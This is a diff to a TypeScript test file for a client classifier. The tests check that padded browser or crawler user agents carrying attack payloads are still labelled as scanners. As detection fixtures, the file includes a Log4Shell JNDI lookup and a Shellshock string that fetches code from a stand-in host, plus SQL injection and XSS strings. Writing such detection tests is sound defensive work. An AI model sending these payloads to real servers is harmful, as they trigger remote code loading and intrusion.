@@ -99,6 +99,32 @@ describe('client classification', () => {
     }
   });
 
+  it('calls a browser or crawler user agent padded past its first kilobyte to hide a payload a scanner too', () => {
+    // Found by mutation testing: the payload's signal came through, but the client stayed a person (or a crawler).
+    const chrome =
+      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36';
+    const googlebot = 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)';
+    const pad = ' '.repeat(1200);
+    for (const [ua, id] of [
+      [`${chrome}${pad}\${jndi:ldap://198.51.100.9/a}`, 'log4shell'],
+      [`${googlebot}${pad}' or '1'='1`, 'sql-injection'],
+      [`${chrome}${pad}<script>alert(1)</script>`, 'xss'],
+    ] as const) {
+      const r = classify({ method: 'GET', path: '/', userAgent: ua, ip: '66.249.66.1' });
+      expect(r).toEqual({
+        client: { kind: 'scanner', reason: 'attack payload in the user agent' },
+        signals: [id],
+      });
+    }
+    // A named scanner keeps its name.
+    expect(client(`sqlmap/1.7${pad}\${jndi:ldap://198.51.100.9/a}`)).toMatchObject({
+      kind: 'scanner',
+      name: 'sqlmap',
+    });
+    // Padding alone is no payload.
+    expect(client(`${chrome}${pad}x`)).toMatchObject({ kind: 'human', browser: 'Chrome 142' });
+  });
+
   it('does not take a payload for a product name', () => {
     expect(client('<script>alert(1)</script>').name).toBeUndefined();
     expect(client('() { :; }; /bin/bash -c "curl http://198.51.100.9/x"').name).toBeUndefined();
